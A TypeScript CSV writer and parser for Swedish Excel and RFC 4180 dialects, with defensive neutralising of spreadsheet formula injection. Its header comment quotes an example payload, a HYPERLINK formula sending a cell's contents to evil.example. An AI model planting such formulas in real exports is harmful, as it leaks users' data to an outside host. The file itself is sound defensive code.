/**
 * CSV in two shapes. `excel-sv` is what Swedish Excel opens with a double click: `;` between
 * fields, decimal comma, UTF-8 with a byte-order mark (without it Excel reads å ä ö as
 * cp1252) and CRLF line ends. `rfc4180` is the plain interchange shape of RFC 4180: `,`,
 * decimal point, no BOM, CRLF. Both quote a field only when it holds the separator, a quote
 * or a line break, doubling quotes inside (RFC 4180 §2.5–2.7).
 *
 * Text from ingested files (notes, scope names, qualifiers, publications) reaches Excel, which
 * runs a cell beginning with `=`, `+`, `-`, `@`, tab or CR as a formula
 * (`=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")`). Both formats neutralise such a
 * text cell as OWASP's CSV-injection guidance says: a leading `'` makes it text, and the cell
 * is quoted. Numbers are written as numbers (`-0,5` stays a number).
 */

export const CSV_FORMATS = ['excel-sv', 'rfc4180'] as const;
export type CsvFormat = (typeof CSV_FORMATS)[number];

export type CsvValue = string | number | boolean | null | undefined;

export interface CsvColumn<T> {
  header: string;
  value: (row: T) => CsvValue;
  /** Written in this format only (a reading aid such as `share_percent` for Swedish Excel). */
  only?: CsvFormat;
}

interface Dialect {
  separator: string;
  decimal: string;
  bom: string;
}

const DIALECTS: Record<CsvFormat, Dialect> = {
  'excel-sv': { separator: ';', decimal: ',', bom: '\uFEFF' },
  rfc4180: { separator: ',', decimal: '.', bom: '' },
};

const EOL = '\r\n';

export function isCsvFormat(value: string): value is CsvFormat {
  return (CSV_FORMATS as readonly string[]).includes(value);
}

/** A number as written: full precision (the API's value, unrounded), decimal mark per dialect. */
function formatNumber(n: number, dialect: Dialect): string {
  if (!Number.isFinite(n)) return '';
  return String(n).replace('.', dialect.decimal);
}

/** First characters that make a spreadsheet evaluate a cell (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell that a spreadsheet would evaluate, made inert: `=1+1` → `'=1+1`. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

function field(value: CsvValue, dialect: Dialect): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return formatNumber(value, dialect);
  const raw = String(value);
  const text = neutraliseFormula(raw);
  const quote = text !== raw || text.includes(dialect.separator) || /["\r\n]/.test(text);
  return quote ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The whole file as a string (BOM included for excel-sv). */
export function writeCsv<T>(columns: readonly CsvColumn<T>[], rows: readonly T[], format: CsvFormat): string {
  const dialect = DIALECTS[format];
  const written = columns.filter((c) => c.only === undefined || c.only === format);
  const lines = [written.map((c) => field(c.header, dialect)).join(dialect.separator)];
  for (const row of rows) lines.push(written.map((c) => field(c.value(row), dialect)).join(dialect.separator));
  return dialect.bom + lines.join(EOL) + EOL;
}

/**
 * Reads what writeCsv wrote (or any CSV of the same dialect) back into rows of strings: the
 * BOM is dropped, quoted fields may hold separators, quotes and line breaks. For tests and
 * for anyone checking a download.
 */
export function parseCsv(text: string, format: CsvFormat): string[][] {
  const { separator } = DIALECTS[format];
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let value = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        value += '"';
        i++;
      } else if (c === '"') quoted = false;
      else value += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(value);
      value = '';
    } else if (c === '\r' || c === '\n') {
      if (c === '\r' && body[i + 1] === '\n') i++;
      row.push(value);
      rows.push(row);
      row = [];
      value = '';
    } else value += c;
  }
  if (value !== '' || row.length > 0) {
    row.push(value);
    rows.push(row);
  }
  return rows;
}

/** A field read back as a number, whichever decimal mark the dialect uses; '' → null. */
export function csvNumber(text: string, format: CsvFormat): number | null {
  if (text === '') return null;
  return Number(format === 'excel-sv' ? text.replace(',', '.') : text);
}
